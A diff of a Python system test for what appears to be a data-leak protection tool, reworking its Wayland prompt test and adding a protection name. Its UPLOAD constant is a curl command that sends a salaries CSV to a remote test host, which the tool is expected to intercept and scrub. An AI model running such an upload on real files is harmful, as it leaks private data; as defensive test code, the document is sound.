@@ -10,11 +10,11 @@ from tests.system.prompt import Prompt
 from tests.system.remote import Remote
 from tests.system.scene import Scene
 from tests.system.tacet_cli import Tacet
-from tests.system.widgets import Screen
+from tests.system.widgets import CentredScreen
 
 NEWEST_KERNEL_ONLY = True
 UPLOAD = "curl -sS -m 90 -T salaries.csv http://remote/"
-PROTECTIONS = {"labels", "interposition", "doppelgangers", "channels", "disclosure", "questions", "shadow-files", "lasting-rules",
+PROTECTIONS = {"labels", "label-index", "interposition", "doppelgangers", "channels", "disclosure", "questions", "shadow-files", "lasting-rules",
                "private-memory", "private-swap", "kernel-memory", "host-names", "boot"}
 
 
@@ -110,9 +110,9 @@ def test_paused_is_shown(scene, picture):
 
 
 def test_wayland(kernel):
-    """On Wayland the prompt appears too, and is answered with the keyboard: nobody may know where a window is."""
+    """On Wayland the prompt appears too, and is answered with the keyboard after a click, as it takes none by itself."""
     with Guest(kernel, desktop="wayland") as guest:
-        screen, remote = Screen(guest), Remote(guest)
+        screen, remote = CentredScreen(guest), Remote(guest)
         remote.start()
         scene = Scene(guest, remote, Tacet(guest), Prompt(guest, screen), screen, Secret())
         scene.open()
@@ -120,16 +120,10 @@ def test_wayland(kernel):
         attempt = scene.start(UPLOAD)
         assert "curl" in scene.prompt.wait()
         guest.screenshot(PICTURES / kernel / "wayland-prompt.png")
-        answer_on_wayland(scene)
+        scene.prompt.take_keyboard()
+        guest.key("alt", "s")
+        screen.wait_gone("", "promptWindow")
         assert attempt.finish().returncode == 0
         scene.assert_scrubbed_arrived()
         screen.close()
         guest.check_kernel_log()
-
-
-def answer_on_wayland(scene):
-    """Sends the scrubbed copy with the keyboard; a click beside the button Details, the window being in the middle of the
-    screen, gives it the focus first, as the prompt takes none."""
-    scene.guest.click(700, 376)
-    scene.guest.key("alt", "s")
-    scene.screen.wait_gone("", "promptWindow")
